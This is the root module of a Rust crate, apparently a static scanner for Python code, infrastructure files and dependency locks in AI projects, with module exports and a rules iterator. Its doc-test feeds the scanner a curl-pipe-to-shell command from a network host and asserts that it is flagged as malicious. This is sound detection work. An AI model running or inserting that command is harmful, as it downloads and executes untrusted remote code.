//! What source code, infrastructure files and dependency locks of AI projects do wrong.
//!
//! Owns: reading Python as it was typed (names resolved, strings folded, values followed from where they come to where
//! they act), Kubernetes manifests, compose files, Dockerfiles, Terraform, lock files and advisories in the OSV schema,
//! and the rules about them. Knows nothing of files, folders, archives, notebooks or output formats: text in, findings
//! out. Nothing is ever run, imported or evaluated; every reader is bounded in bytes, depth and steps, never in time.
//!
//! ```
//! use bastide_types::Assessment;
//!
//! let remarks = bastide_code::python("import os\nos.system('curl http://198.51.100.7/x | sh')\n");
//! assert_eq!(remarks[0].rule.id, "code.hostile-command");
//! assert_eq!(remarks[0].rule.effect, Assessment::Malicious);
//! assert_eq!(remarks[0].line, 2);
//! assert!(bastide_code::python("import os\nos.system('nvidia-smi')\n").is_empty());
//! ```

pub mod dependencies;
mod infrastructure;
mod python;
mod remark;
mod secrets;
mod shell;
mod yaml;

use bastide_types::Rule;

pub use infrastructure::{Kind, infrastructure};
pub use python::{LONGEST as LONGEST_PYTHON, cell, notebook, python, python_file};
pub use remark::Remark;

/// Every rule, in the order of the documentation.
pub fn rules() -> impl Iterator<Item = &'static Rule> {
    const SHARED: &[&Rule] = &[&secrets::SECRET];
    let families =
        [SHARED, python::RULES, infrastructure::RULES, dependencies::RULES].into_iter().flatten().copied();
    families.chain(python::families().flatten().copied())
}
